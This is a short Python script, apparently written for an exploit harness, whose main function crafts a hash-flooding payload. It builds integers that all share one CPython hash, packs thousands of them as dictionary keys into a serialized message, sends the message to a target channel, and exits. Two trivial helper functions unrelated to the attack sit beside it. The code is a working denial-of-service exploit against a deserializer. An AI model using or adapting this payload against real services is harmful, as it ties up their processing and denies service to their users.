"""Answers with dicts whose keys all hash alike, so that reading them takes long."""
import itertools
import os
import struct

from target import answer, channel

MODULUS = 2**61 - 1
ALIKE = [n for k in range(-5, 5) if -(2**63) <= (n := 5 + k * MODULUS) < 2**63 and hash(n) == 5]


def f(x):
    entries = [b"d" + struct.pack("<I", 2048)]
    for tail in itertools.islice(itertools.product(ALIKE, repeat=6), 2048):
        entries.append(b"k" + struct.pack("<I16q", 16, *[5] * 10, *tail) + b"N")
    frame = memoryview(answer(0, body=b"l" + struct.pack("<I", 24) + b"".join(entries) * 24))
    while frame:
        frame = frame[os.write(channel(), frame) :]
    os._exit(0)


def g(x):
    return float(x.sum())


def h(n):
    return n * n
